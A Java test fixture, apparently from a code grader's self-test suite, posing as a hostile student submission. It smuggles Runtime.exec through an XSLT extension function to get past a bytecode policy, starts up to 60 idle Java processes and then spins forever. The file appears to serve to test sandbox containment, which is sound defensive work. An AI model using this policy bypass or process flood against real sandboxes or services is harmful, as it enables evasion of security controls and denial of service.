package selftest;

import dev.pglabs.graders.selftest.sandboxed.TagCounter;

import javax.xml.transform.Templates;
import javax.xml.transform.TransformerException;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.stream.StreamResult;
import javax.xml.transform.stream.StreamSource;
import java.io.StringReader;
import java.io.StringWriter;
import java.sql.Connection;

public class StudentTagCounter implements TagCounter {

    @Override
    public long countTags(Connection connection) {
        // Starts Java processes that wait for input forever, through an XSLT extension function calling
        // Runtime.exec (the bytecode policy sees only javax.xml.transform), and never returns.
        String command = System.getProperty("java.home") + "/bin/java -D@FORK_MARKER@ -Xmx16m "
                + "-XX:TieredStopAtLevel=1 -cp " + System.getProperty("java.class.path")
                + " dev.pglabs.worker.WorkerMain 0";
        String sheet = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'"
                + " xmlns:rt='http://xml.apache.org/xalan/java/java.lang.Runtime'>"
                + "<xsl:template match='/'><xsl:value-of select=\"rt:exec(rt:getRuntime(), '" + command + "')\"/>"
                + "</xsl:template></xsl:stylesheet>";
        Templates fork;
        try {
            fork = TransformerFactory.newInstance().newTemplates(new StreamSource(new StringReader(sheet)));
        } catch (TransformerException e) {
            throw new IllegalStateException(e);
        }
        int started = 0;
        TransformerException refused = null;
        for (int i = 0; i < 60; i++) {
            try {
                fork.newTransformer().transform(new StreamSource(new StringReader("<x/>")),
                        new StreamResult(new StringWriter()));
                started++;
            } catch (TransformerException e) {
                refused = e;  // no room for another process yet: keep trying
            }
        }
        if (started == 0) {
            // Says so, rather than wait: a case that started nothing proves nothing.
            throw new IllegalStateException("no process started", refused);
        }
        while (true) {
            Thread.onSpinWait();
        }
    }
}
